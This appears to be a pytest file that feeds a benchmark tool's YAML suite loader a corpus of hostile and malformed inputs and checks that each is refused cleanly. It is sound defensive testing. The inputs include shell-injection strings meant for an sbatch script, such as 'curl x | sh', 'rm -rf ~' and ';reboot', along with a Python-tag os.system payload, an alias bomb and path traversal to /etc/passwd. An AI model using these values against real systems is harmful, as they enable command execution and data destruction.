"""Hostile and malformed suites: every one is refused with exit 2 and one clear message naming the file, the line,
the field and the rule, by `run --dry-run` and by `run`, and nothing is created anywhere (issue 19).

The corpus (`CORPUS`) is one table, by class:
- file: a file that cannot be read or decoded as UTF-8 text (not UTF-8, UTF-16, binary, empty, a folder, a FIFO,
  a symlink loop, too large, a control character, unreadable): one line, no line-level detail needed;
- yaml: strict YAML (a key given twice, recursive or exploding aliases, Python tags, several documents, keys
  that are not names, nesting deeper than any suite);
- path: every string that becomes a path (suite name, labels, algorithm names, dataset ids, results_dir) is
  one safe path component, or a Minari id, or printable text;
- set: the grid is a set (a seed, task, label or dataset given twice; labels equal up to case; too many runs);
- value: values outside what the runs can use (seed ranges and counts, empty lists, numbers past their upper
  bound: threads, jobs, episodes, steps, Slurm resources);
- slurm: Slurm settings are written into the sbatch submission script (a bash script): names, option names and
  values that would end an `#SBATCH` line and run the rest as a shell command, or are not what Slurm reads.
"""

from __future__ import annotations

import os
from collections.abc import Callable
from pathlib import Path

import pytest

from tests.conftest import cli, tree

HEAD = "name: hostile\ntasks: [hopper]\n"
TAIL = "seeds: 1\nbudget: {total_steps: 1000, steps_per_epoch: 1000}\n"
OK = HEAD + "algorithms: [ppo]\n" + TAIL  # a valid suite the cases break one thing of
SLURM = OK + "launcher:\n  name: slurm\n  resources:\n"  # + the resources' keys, from line 9


def _text(s: str) -> Callable[[Path], None]:
    return lambda p: p.write_bytes(s.encode())


def _bytes(b: bytes) -> Callable[[Path], None]:
    return lambda p: p.write_bytes(b)


def _folder(p: Path) -> None:
    p.mkdir()
    (p / "suite.yaml").write_text(OK)


def _fifo(p: Path) -> None:
    os.mkfifo(p)


def _loop(p: Path) -> None:
    p.symlink_to(p.with_name("other.yaml"))
    p.with_name("other.yaml").symlink_to(p)


def _dangling(p: Path) -> None:
    p.symlink_to(p.with_name("gone.yaml"))


def _unreadable(p: Path) -> None:
    p.write_text(OK)
    p.chmod(0)


def _io_error(p: Path) -> None:
    p.symlink_to("/proc/self/mem")  # a regular file whose first byte cannot be read (EIO), even by root


def _huge(p: Path) -> None:
    p.write_text(OK + ("# padding padding padding padding padding padding padding padding padding\n" * 16_000))


LAUGHS = "".join(f"l{i}: &l{i} [{', '.join([f'*l{i - 1}'] * 10) if i else ', '.join(['lol'] * 10)}]\n"
                 for i in range(7))

# id -> (class, how the suite file is made, what stderr must say); `suite.yaml:N:` is the file and line
CORPUS: dict[str, tuple[str, Callable[[Path], None], list[str]]] = {
    # ----- file: cannot be read or decoded -----
    "latin-1": ("file", _bytes(OK.replace("hostile", "caf\xe9").encode("latin-1")),
                ["suite.yaml:1:", "not UTF-8 text", "byte 0xe9"]),
    "utf-16": ("file", _bytes(OK.encode("utf-16")), ["suite.yaml:", "UTF-16 text; save the suite as UTF-8"]),
    "binary": ("file", _bytes(b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256))),
               ["suite.yaml:3:", "binary file", "NUL byte at offset 8"]),
    "empty": ("file", _text(""), ["suite.yaml:", "the file is empty"]),
    "comments only": ("file", _text("# nothing here\n\n"), ["suite.yaml:", "holds no YAML document"]),
    "a folder": ("file", _folder, ["suite.yaml:", "is a folder; give the suite's YAML file"]),
    "a fifo": ("file", _fifo, ["suite.yaml:", "not a regular file"]),
    "symlink loop": ("file", _loop, ["suite.yaml:", "cannot read the suite file", "symbolic links"]),
    "dangling symlink": ("file", _dangling, ["suite.yaml:", "no such suite file"]),
    "too large": ("file", _huge, ["suite.yaml:", "larger than 1024 KiB"]),
    "control character": ("file", _text(OK.replace("hostile", "host\x1b[31mile")),
                          ["suite.yaml:1:", "control character #x001b"]),
    "unreadable": ("file", _unreadable, ["suite.yaml:", "cannot read the suite file", "ermission denied"]),
    "read error": ("file", _io_error, ["suite.yaml:", "cannot read the suite file", "Input/output error"]),
    # ----- yaml: strict reading -----
    "syntax error": ("yaml", _text(HEAD + "algorithms: [ppo\n" + TAIL), ["suite.yaml:4:", "YAML syntax error"]),
    "repeated top-level key": ("yaml", _text(OK + "seeds: 2\n"),
                               ["suite.yaml:6: seeds: key 'seeds' given twice (lines 4 and 6)", "remove one"]),
    "repeated nested key": ("yaml", _text(HEAD + "algorithms: [ppo]\nseeds: 1\nbudget:\n  total_steps: 1000\n"
                                          "  steps_per_epoch: 1000\n  total_steps: 2000\n"),
                            ["suite.yaml:8: budget.total_steps: key 'total_steps' given twice (lines 6 and 8)"]),
    "repeated config key": ("yaml", _text(HEAD + "algorithms:\n  - name: ppo\n    config:\n      gamma: 0.9\n"
                                          "      gamma: 0.95\n" + TAIL),
                            ["suite.yaml:7: algorithms[0].config.gamma: key 'gamma' given twice"]),
    "recursive alias": ("yaml", _text(HEAD + "algorithms: &a [ppo, *a]\n" + TAIL),
                        ["suite.yaml:3:", "algorithms", "recursive alias"]),
    "billion laughs": ("yaml", _text(LAUGHS), ["suite.yaml:", "aliases expand it to", "at most 100,000"]),
    "deep nesting": ("yaml", _text("tasks: " + "[" * 3000 + "]" * 3000 + "\n"), ["suite.yaml:", "nested too deeply"]),
    "python tag": ("yaml", _text(HEAD + "algorithms: [!!python/object/apply:os.system ['touch MARKER']]\n" + TAIL),
                   ["suite.yaml:3:", "YAML syntax error", "could not determine a constructor"]),
    "two documents": ("yaml", _text(OK + "---\n" + OK), ["suite.yaml:6:", "expected a single document"]),
    "a list": ("yaml", _text("- ppo\n- hopper\n"), ["suite.yaml:1:", "a suite is a YAML mapping", "holds a list"]),
    "a scalar": ("yaml", _text("hopper\n"), ["suite.yaml:1:", "a suite is a YAML mapping"]),
    "boolean key": ("yaml", _text(OK + "yes: 1\n"), ["suite.yaml:6:", "YAML reads the key 'yes' as a bool",
                                                    "quote it"]),
    "list as key": ("yaml", _text(OK + "? [a, b]\n: 1\n"), ["suite.yaml:6:", "a key is a name, not a list"]),
    # ----- path: strings that become paths -----
    "label escapes": ("path", _text(HEAD + "algorithms: [{name: ppo, label: ../../x}]\n" + TAIL),
                      ["suite.yaml:3: algorithms[0].label: '../../x' contains '/' (a path separator)",
                       "one path component"]),
    "label dot-dot": ("path", _text(HEAD + "algorithms: [{name: ppo, label: ..}]\n" + TAIL),
                      ["algorithms[0].label: '..' starts with '.'"]),
    "label hidden": ("path", _text(HEAD + "algorithms: [{name: ppo, label: .hidden}]\n" + TAIL),
                     ["algorithms[0].label: '.hidden' starts with '.'"]),
    "label with NUL": ("path", _text(HEAD + 'algorithms: [{name: ppo, label: "a\\0b"}]\n' + TAIL),
                       ["algorithms[0].label: 'a\\x00b' contains '\\x00'"]),
    "label with newline": ("path", _text(HEAD + 'algorithms: [{name: ppo, label: "a\\nb"}]\n' + TAIL),
                           ["algorithms[0].label: 'a\\nb' contains '\\n'"]),
    "label not ascii": ("path", _text(HEAD + "algorithms: [{name: ppo, label: ppö}]\n" + TAIL),
                        ["algorithms[0].label: 'ppö' contains 'ö'"]),
    "label too long": ("path", _text(HEAD + f"algorithms: [{{name: ppo, label: {'x' * 65}}}]\n" + TAIL),
                       ["algorithms[0].label:", "has 65 characters", "at most 64"]),
    "algorithm name with slash": ("path", _text(HEAD + "algorithms: [ppo/../../x]\n" + TAIL),
                                  ["suite.yaml:3: algorithms[0].name: 'ppo/../../x' contains '/'"]),
    "suite name escapes": ("path", _text(OK.replace("name: hostile", "name: ../../outside")),
                           ["suite.yaml:1: name: '../../outside' contains '/'"]),
    "suite name absolute": ("path", _text(OK.replace("name: hostile", "name: /tmp/x")),
                            ["suite.yaml:1: name: '/tmp/x' contains '/'"]),
    "dataset id escapes": ("path", _text(OK + "dataset: ../../../etc/passwd\n"),
                           ["suite.yaml:6: dataset: '../../../etc/passwd' is not a dataset id", "NAMESPACE/NAME-vN"]),
    "override dataset id": ("path", _text(OK + "overrides:\n  - dataset: dapbench/../x-v0\n"),
                            ["suite.yaml:7: overrides[0].dataset: 'dapbench/../x-v0' is not a dataset id"]),
    "results_dir control": ("path", _text(OK + 'results_dir: "out\\tdir"\n'),
                            ["suite.yaml:6: results_dir:", "control character"]),
    "results_dir empty": ("path", _text(OK + 'results_dir: ""\n'), ["suite.yaml:6: results_dir: the folder is empty"]),
    "task escapes": ("path", _text(OK.replace("[hopper]", "[../hopper]")),
                     ["suite.yaml:2: tasks[0]: unknown task '../hopper'", "allowed: "]),
    # ----- set: the grid is a set -----
    "repeated seed": ("set", _text(HEAD + "algorithms: [ppo]\nseeds: [0, 0, 1]\n"),
                      ["suite.yaml:4: seeds[1]: seed 0 is also seeds[0] (line 4)", "share a run folder"]),
    "repeated task": ("set", _text(OK.replace("[hopper]", "[hopper, swimmer, hopper]")),
                      ["suite.yaml:2: tasks[2]: task 'hopper' is also tasks[0] (line 2)"]),
    "repeated label": ("set", _text(HEAD + "algorithms:\n  - ppo\n  - {name: ppo, config: {gamma: 0.9}}\n" + TAIL),
                       ["suite.yaml:5: algorithms[1].name: label 'ppo' is also the label of algorithms[0] (line 4)"]),
    "labels equal up to case": ("set", _text(HEAD + "algorithms: [ppo, {name: ppo, label: PPO}]\n" + TAIL),
                                ["algorithms[1].label: label 'PPO' is also the label of algorithms[0]",
                                 "case-insensitive file system"]),
    "repeated dataset": ("set", _text(OK + "datasets: [{task: hopper}, {task: hopper, quality: medium}]\n"),
                         ["suite.yaml:6: datasets[1]: dataset dapbench/hopper/medium-v0 is also datasets[0]"]),
    "too many runs": ("set", _text("name: hostile\ntasks: all\nalgorithms: [ppo, ppo-dap, dtql, abppo, ppo-gc]\n"
                                   "seeds: 5000\n"), ["suite.yaml:4: seeds: the grid has 200,000 runs",
                                                      "at most 100,000"]),
    # ----- value: what the runs can use -----
    "seed count huge": ("value", _text(HEAD + "algorithms: [ppo]\nseeds: 1000000000000\n"),
                        ["suite.yaml:4: seeds: a seed count is 1 to 10,000"]),
    "seed too large": ("value", _text(HEAD + "algorithms: [ppo]\nseeds: [1, 99999999999]\n"),
                       ["suite.yaml:4: seeds: seed 99999999999 is out of range"]),
    "seeds empty": ("value", _text(HEAD + "algorithms: [ppo]\nseeds: []\n"), ["seeds: seeds is a count"]),
    "tasks empty": ("value", _text(OK.replace("[hopper]", "[]")), ["suite.yaml:2: tasks: tasks is a non-empty list"]),
    "algorithms empty": ("value", _text(HEAD + "algorithms: []\n" + TAIL), ["suite.yaml:3: algorithms: no algorithms"]),
    "negative evaluation seed": ("value", _text(OK + "evaluation: {episodes: 1, seeds: [-3]}\n"),
                                 ["suite.yaml:6: evaluation.seeds[0]: Input should be greater than or equal to 0"]),
    "torch_threads huge": ("value", _text(OK + "torch_threads: 100000000000\n"),
                           ["suite.yaml:6: torch_threads: 100,000,000,000 is out of range: torch_threads is 1 to "
                            "1,024"]),
    "torch_threads float": ("value", _text(OK + "torch_threads: 1.0e+11\n"),
                            ["suite.yaml:6: torch_threads: 100,000,000,000 is out of range"]),
    "local jobs huge": ("value", _text(OK + "launcher: {jobs: 1000000}\n"),
                        ["suite.yaml:6: launcher.jobs: 1,000,000 is out of range: jobs is 1 to 4,096"]),
    "episodes huge": ("value", _text(OK + "evaluation: {episodes: 10000000}\n"),
                      ["suite.yaml:6: evaluation.episodes: 10,000,000 is out of range: episodes is 1 to 100,000"]),
    "total_steps huge": ("value", _text(HEAD + "algorithms: [ppo]\nseeds: 1\nbudget: {total_steps: 10000000000000}\n"),
                         ["suite.yaml:5: budget.total_steps: 10,000,000,000,000 is out of range: a number of "
                          "environment steps is 1 to 10,000,000,000"]),
    "horizon huge": ("value", _text(HEAD + "algorithms: [ppo]\nseeds: 1\nbudget:\n  total_steps: 1000\n"
                                    "  steps_per_epoch: 1000\n  horizon_steps: 100000000000\n"),
                     ["suite.yaml:8: budget.horizon_steps: 100,000,000,000 is out of range"]),
    "dataset steps huge": ("value", _text(OK + "datasets: [{task: hopper, steps: 100000000000}]\n"),
                           ["suite.yaml:6: datasets[0].steps: 100,000,000,000 is out of range"]),
    "slurm resources huge": ("value", _text(SLURM + "    time_min: 10000000\n    cpus_per_task: 100000\n"
                                            "    mem_gb: .inf\n    gpus_per_node: 1000\n"),
                             ["(4 problems;", "suite.yaml:9: launcher.resources.time_min: 10,000,000 is out of range: "
                              "time_min is 1 to 527,040 minutes (366 days)",
                              "suite.yaml:10: launcher.resources.cpus_per_task: 100,000 is out of range: cpus_per_task "
                              "is 1 to 4,096",
                              "suite.yaml:11: launcher.resources.mem_gb: inf is out of range: mem_gb is more than 0 "
                              "and at most 1,048,576 GB",
                              "suite.yaml:12: launcher.resources.gpus_per_node: 1,000 is out of range: gpus_per_node "
                              "is 0 to 64"]),
    # ----- slurm: what reaches the sbatch submission script -----
    "partition with newline": ("slurm", _text(SLURM + '    partition: "cpu\\ntouch /tmp/pwned"\n'),
                               ["suite.yaml:9: launcher.resources.partition: 'cpu\\ntouch /tmp/pwned' contains the "
                                "control character '\\n'; a Slurm partition is letters, digits and _ . - + , : @ = "
                                "/ %"]),
    "partition with shell": ("slurm", _text(SLURM + "    partition: cpu;reboot\n"),
                             ["suite.yaml:9: launcher.resources.partition: 'cpu;reboot' contains ';'"]),
    "partition as an option": ("slurm", _text(SLURM + "    partition: --uid=0\n"),
                               ["launcher.resources.partition: '--uid=0' starts with '-'"]),
    "account with control": ("slurm", _text(SLURM + '    account: "lab\\x07x"\n'),
                             ["suite.yaml:9: launcher.resources.account: 'lab\\x07x' contains the control character "
                              "'\\x07'; a Slurm account is letters"]),
    "qos with line separator": ("slurm", _text(OK + 'overrides:\n  - resources: {qos: "high\\u2028x"}\n'),
                                ["suite.yaml:7: overrides[0].resources.qos:", "contains the control character "
                                 "'\\u2028'"]),
    "constraint with backtick": ("slurm", _text(SLURM + "    constraint: intel&`id`\n"),
                                 ["suite.yaml:9: launcher.resources.constraint: 'intel&`id`' contains '`'",
                                  "& | ( ) [ ] * !"]),
    "sbatch value with newline": ("slurm", _text(SLURM + '    sbatch: {exclude: "n1\\ncurl x | sh"}\n'),
                                  ["suite.yaml:9: launcher.resources.sbatch.exclude: 'n1\\ncurl x | sh' contains the "
                                   "control character '\\n'", "an sbatch value is one line of printable text"]),
    "sbatch value with return": ("slurm", _text(SLURM + '    sbatch: {comment: "a\\rb"}\n'),
                                 ["launcher.resources.sbatch.comment: 'a\\rb' contains the control character '\\r'"]),
    "sbatch key with space": ("slurm", _text(SLURM + "    sbatch: {mail type: END}\n"),
                              ["suite.yaml:9: launcher.resources.sbatch.mail type: sbatch option 'mail type' "
                               "contains ' '", "without the dashes: a letter, then letters, digits, '-' or '_'"]),
    "sbatch key with semicolon": ("slurm", _text(SLURM + '    sbatch: {"x;touch pwned": 1}\n'),
                                  ["launcher.resources.sbatch.x;touch pwned: sbatch option 'x;touch pwned' contains "
                                   "';'"]),
    "sbatch key with newline": ("slurm", _text(SLURM + '    sbatch: {"x\\nrm -rf ~": 1}\n'),
                                ["suite.yaml:9: launcher.resources.sbatch['x\\nrm -rf ~']: sbatch option "
                                 "'x\\nrm -rf ~' contains '\\n'"]),
    "sbatch key with dashes": ("slurm", _text(SLURM + "    sbatch: {--exclude: n1}\n"),
                               ["launcher.resources.sbatch.--exclude: sbatch option '--exclude' starts with '-'"]),
    "sbatch false": ("slurm", _text(SLURM + "    sbatch: {hold: false}\n"),
                     ["launcher.resources.sbatch.hold: false is not an sbatch value", "leave its key out"]),
    "sbatch option twice": ("slurm", _text(SLURM + "    sbatch: {mail_type: END, mail-type: BEGIN}\n"),
                            ["launcher.resources.sbatch: mail_type and mail-type are one option (--mail-type)"]),
}


def _param(case: str):
    marks = [pytest.mark.skipif(os.geteuid() == 0, reason="root reads any file")] if case == "unreadable" else []
    return pytest.param(case, id=case, marks=marks)


def test_the_corpus_is_large_and_covers_every_class() -> None:
    classes = [c for c, _, _ in CORPUS.values()]
    assert len(CORPUS) >= 30
    assert {c: classes.count(c) for c in set(classes)} == {"file": 13, "yaml": 13, "path": 15, "set": 6,
                                                           "value": 14, "slurm": 14}


@pytest.mark.parametrize("case", [_param(c) for c in CORPUS])
def test_hostile_suite_is_refused_and_creates_nothing(case: str, tmp_path: Path, monkeypatch, capsys) -> None:
    kind, make, expected = CORPUS[case]
    work = tmp_path / "work"
    work.mkdir()
    monkeypatch.chdir(work)  # the default results folder, and anything a path could escape to, is under tmp_path
    suite = work / "suite.yaml"
    make(suite)
    before = tree(tmp_path)
    for args in (("--dry-run",), ("--results", work / "results")):
        assert cli("run", suite, *args) == 2, args
        err = capsys.readouterr().err
        assert "Traceback" not in err
        flat = " ".join(err.split())
        for piece in expected:
            assert piece in flat, f"{piece!r} not in {flat!r}"
        if kind == "file":
            assert len(err.strip().splitlines()) == 1, "a file that cannot be read is one line"
        assert tree(tmp_path) == before, "a refused suite creates nothing"
    assert not (work / "MARKER").exists()


def _suite(tmp_path: Path, text: str) -> Path:
    p = tmp_path / "s.yaml"
    p.write_text(text)
    return p


def test_every_problem_is_reported_at_once_each_at_its_own_line(tmp_path: Path, capsys) -> None:
    """An unknown algorithm does not hide the others: typos in another algorithm's config and an override's,
    a wrong override target and a budget that does not divide into epochs."""
    suite = _suite(tmp_path, "name: x\ntasks: [hopper]\nalgorithms:\n  - ppo-magic\n  - name: ppo\n"
                             "    config: {learning_rat: 0.001}\nseeds: 1\nbudget: {total_steps: 2500, "
                             "steps_per_epoch: 1000}\noverrides:\n  - algorithms: [ppo, ppp]\n"
                             "    config: {gama: 0.9}\n")
    assert cli("run", suite, "--dry-run") == 2
    err = " ".join(capsys.readouterr().err.split())
    assert "(5 problems;" in err
    for piece in (f"{suite}:4: algorithms[0].name: unknown algorithm 'ppo-magic'",
                  f"{suite}:6: algorithms[1].config.learning_rat: unknown key; did you mean 'learning_rate'?",
                  f"{suite}:10: overrides[0].algorithms[1]: algorithm 'ppp' is not a label",
                  f"{suite}:11: overrides[0].config.gama: unknown key; did you mean 'gamma'?",
                  f"{suite}:8: budget: total_steps 2500 for hopper is not a multiple of steps_per_epoch 1000"):
        assert piece in err, f"{piece!r} not in {err!r}"


def test_a_config_typo_is_reported_at_its_own_line_when_overrides_exist(tmp_path: Path, capsys) -> None:
    suite = _suite(tmp_path, "name: x\ntasks: [hopper]\nalgorithms:\n  - name: ppo\n    config: {clip_cof: 0.1}\n"
                             "seeds: 1\noverrides:\n  - config: {gamma: 0.9}\n  - config: {ent_coef: 0.01}\n")
    assert cli("run", suite, "--dry-run") == 2
    err = " ".join(capsys.readouterr().err.split())
    assert f"{suite}:5: algorithms[0].config.clip_cof: unknown key; did you mean 'clip_coef'?" in err
    assert "overrides" not in err


def test_an_override_key_one_of_its_algorithms_lacks(tmp_path: Path, capsys) -> None:
    suite = _suite(tmp_path, "name: x\ntasks: [hopper]\nalgorithms: [ppo, ppo-dap]\nseeds: 1\n"
                             "overrides:\n  - config: {K: 4}\n")
    assert cli("run", suite, "--dry-run") == 2
    err = " ".join(capsys.readouterr().err.split())
    assert f"{suite}:6: overrides[0].config.K: not a config key of ppo, which this override also applies to" in err
    assert "`algorithms:`" in err


def test_a_range_error_does_not_list_every_key(tmp_path: Path, capsys) -> None:
    suite = _suite(tmp_path, "name: x\ntasks: [hopper]\nalgorithms: [{name: ppo, config: {clip_coef: -1}}]\nseeds: 1\n")
    assert cli("run", suite, "--dry-run") == 2
    err = " ".join(capsys.readouterr().err.split())
    assert f"{suite}:3: algorithms[0].config.clip_coef: Input should be greater than 0 (got -1)" in err
    assert "learning_rate" not in err and "allowed" not in err


def test_an_unknown_key_without_a_close_name_lists_the_allowed_ones(tmp_path: Path, capsys) -> None:
    suite = _suite(tmp_path, "name: x\ntasks: [hopper]\nalgorithms: [{name: ppo, colour: red}]\nseeds: 1\n")
    assert cli("run", suite, "--dry-run") == 2
    assert "algorithms[0].colour: unknown key; allowed keys: name, label, config, tasks" in \
        " ".join(capsys.readouterr().err.split())


def test_a_name_from_the_file_name_says_so(tmp_path: Path, capsys) -> None:
    suite = tmp_path / ".hidden.yaml"
    suite.write_text("tasks: [hopper]\nalgorithms: [ppo]\nseeds: 1\n")
    assert cli("run", suite, "--dry-run") == 2
    err = " ".join(capsys.readouterr().err.split())
    assert "name: '.hidden' starts with '.'" in err and "comes from the file name" in err


def test_an_explicit_results_folder_is_allowed_and_is_the_only_place_written(tmp_path: Path, monkeypatch) -> None:
    work = tmp_path / "work"
    work.mkdir()
    monkeypatch.chdir(work)
    elsewhere = tmp_path / "elsewhere" / "deep"
    suite = _suite(work, OK + f"results_dir: {tmp_path / 'unused'}\n")
    assert cli("run", suite, "--results", elsewhere) == 0
    written = sorted(str(p.relative_to(tmp_path)) for p in tmp_path.rglob("*") if p.is_file() and p != suite)
    assert written and all(w.startswith("elsewhere/deep/hopper/ppo/seed_0/") for w in written), written


@pytest.mark.parametrize("where", ["--results", "results_dir", "parent"])
def test_a_results_folder_that_is_a_file_is_refused(tmp_path: Path, monkeypatch, capsys, where: str) -> None:
    monkeypatch.chdir(tmp_path)
    blocker = tmp_path / "blocker"
    blocker.write_text("not a folder\n")
    target = blocker / "sub" if where == "parent" else blocker
    suite = _suite(tmp_path, OK + (f"results_dir: {target}\n" if where != "--results" else ""))
    args = ("--results", target) if where != "results_dir" else ()
    before = tree(tmp_path)
    for extra in (("--dry-run",), ()):
        assert cli("run", suite, *args, *extra) == 2
        err = " ".join(capsys.readouterr().err.split())
        assert f"{blocker}: is" in err and "exists and is not a folder" in err
    assert cli("status", suite, *args) == 2
    assert tree(tmp_path) == before


def test_a_results_path_with_a_control_character_is_refused(tmp_path: Path, capsys) -> None:
    suite = _suite(tmp_path, OK)
    assert cli("run", suite, "--results", tmp_path / "a\nb", "--dry-run") == 2
    assert "--results: " in capsys.readouterr().err
    assert list(tmp_path.iterdir()) == [suite]


def test_a_bom_and_anchors_are_still_fine(tmp_path: Path) -> None:
    """Strict is not hostile to ordinary YAML: a UTF-8 byte-order mark, anchors and merge keys load."""
    from dapbench.suite import expand, load_suite

    suite = tmp_path / "ok.yaml"
    suite.write_bytes(b"\xef\xbb\xbf" + (HEAD + "algorithms:\n  - &p {name: ppo, config: {gamma: 0.9}}\n"
                                          "  - {<<: *p, label: ppo-b}\n" + TAIL).encode())
    specs = expand(load_suite(suite))
    assert [s.label for s in specs] == ["ppo", "ppo-b"] and {s.config["gamma"] for s in specs} == {0.9}
